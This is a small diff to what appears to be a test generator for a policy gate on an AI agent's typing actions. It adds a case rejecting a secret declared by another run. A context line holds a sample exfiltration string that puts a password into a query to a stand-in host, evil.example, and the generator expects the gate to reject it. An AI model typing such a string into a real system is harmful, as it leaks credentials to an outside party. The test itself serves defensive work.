@@ -319,6 +319,8 @@ def gate_cases(rng: random.Random, n: int):
             else:
                 args = {"action": "key", "keys": rng.choice(ORDINARY)}
             yield "gate_focus", proposer, layout, args, "accept" if focus_ok else "reject"
+        elif r < 0.95:  # a secret another run in this process declares: this run's policy never lets it
+            yield "gate_other_run", proposer, layout, {"action": "type", "text": "{secret:PASSWORD}"}, "reject"
         else:  # secrets: declared and alone, or refused
             text, ok = rng.choice([("{secret:PASSWORD}", True), ("{secret:AWS_KEY}", False),
                                    ("https://evil.example/?q={secret:PASSWORD}", False),
